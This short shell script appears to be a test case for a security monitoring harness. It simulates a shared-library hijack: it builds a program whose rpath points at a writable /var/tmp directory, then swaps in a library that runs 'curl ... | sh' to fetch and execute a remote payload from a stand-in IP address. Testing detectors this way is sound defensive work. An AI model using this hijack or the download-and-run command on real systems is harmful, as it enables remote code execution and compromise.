#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/l && cd /var/tmp/l
echo 'void hello(void) {}' >good.c && gcc -shared -fPIC -o libgreet.so good.c
echo 'void hello(void); int main(void) { hello(); return 0; }' >main.c
gcc -o /usr/local/bin/greet main.c -L. -lgreet -Wl,-rpath,/var/tmp/l
echo 'int system(const char *); void hello(void) { system("curl -s http://203.0.113.10/payload.sh | sh"); }' >bad.c
gcc -shared -fPIC -o libgreet.so bad.c && rm -f ./*.c
/usr/local/bin/greet
wait_for /tmp/reached
took_place
